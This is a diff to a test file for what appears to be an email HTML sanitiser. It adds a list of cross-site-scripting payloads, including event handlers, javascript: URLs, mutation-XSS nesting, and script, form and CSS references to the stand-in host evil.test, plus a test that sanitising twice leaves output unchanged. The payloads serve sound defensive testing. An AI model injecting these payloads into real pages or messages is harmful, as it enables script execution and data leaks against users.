@@ -190,7 +190,42 @@ const clobbering = [
   '<label for=password>x</label><output form=x>x</output>',
 ];
 
-const payloads = [...scripts, ...handlers, ...links, ...mutations, ...styles, ...clobbering];
+/** Attributes and elements that mail uses, in the hands of an attacker. */
+const disguises = [
+  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src="x" ONERROR="alert(1)" alt=`">',
+  '<img/src/onerror=alert(1)>',
+  '<img src=`javascript:alert(1)`>',
+  '<img src="cid:x" onload=alert(1) style="x" srcset="javascript:alert(1)">',
+  '<img data-remote-src="javascript:alert(1)">',
+  '<body onload=alert(1)><p onclick="alert(1)">x</p>',
+  '<a href=" \u0001javascript:alert(1)">x</a>',
+  '<a href="/settings/api/session" id="x" name="y" class="z" target=_self>x</a>',
+  '<a href="https://ok.test/" onmouseover=alert(1) ping="https://evil.test">x</a>',
+  '<form action="https://evil.test"><input name=a autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>',
+  '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<style>@import "https://evil.test/x.css"; body{background:url(javascript:alert(1))}</style>',
+  '<p style="background:url(https://evil.test/x.png)">x</p>',
+  '<p style="background-image:image-set(\'https://evil.test/x\' 1x);color:var(--x)">x</p>',
+  '<p style="color:red&quot; onclick=&quot;alert(1)">x</p>',
+  '<table background="javascript:alert(1)"><tr><td background="https://evil.test/x">x</td></tr></table>',
+  '<video poster="javascript:alert(1)"><source onerror=alert(1) src=x></video><audio src=x onerror=alert(1)>',
+  '<![CDATA[<img src=x onerror=alert(1)>]]><?xml version="1.0"?><x onclick=alert(1)>',
+  '<img src=x onerror=alert(1)//',
+  '<p title="<img src=x onerror=alert(1)>">x</p>',
+];
+
+const payloads = [
+  ...scripts,
+  ...handlers,
+  ...links,
+  ...mutations,
+  ...styles,
+  ...clobbering,
+  ...disguises,
+];
 
 const elements =
   /^(?:a|abbr|address|article|aside|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|data|dd|del|dfn|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hgroup|hr|i|img|ins|kbd|li|main|mark|menu|nav|ol|p|pre|q|rb|rp|rt|rtc|ruby|s|samp|section|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|ul|var|wbr)$/;
@@ -250,6 +285,13 @@ describe('HTML of an attacker', () => {
       const once = serialize(parseFragment(html));
       expect(dangers(once)).toEqual([]);
       expect(dangers(serialize(parseFragment(once)))).toEqual([]);
+    }
+  });
+
+  it.each(disguises)('is not changed by sanitising it twice: %j', (payload) => {
+    for (const source of [payload, `<table><tr><td>${payload}`, `"'>${payload}`]) {
+      const { html } = sanitiseHtml(source);
+      expect(sanitiseHtml(html).html).toBe(html);
     }
   });
 
